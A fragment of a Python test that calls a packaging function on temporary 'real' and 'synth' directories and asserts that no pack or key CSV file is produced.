        make(str(tmp_path / "real"), str(tmp_path / "synth"), 2, tmp_path / "pack", size=100000)
    assert not (tmp_path / "pack").exists() and not (tmp_path / "pack.key.csv").exists()
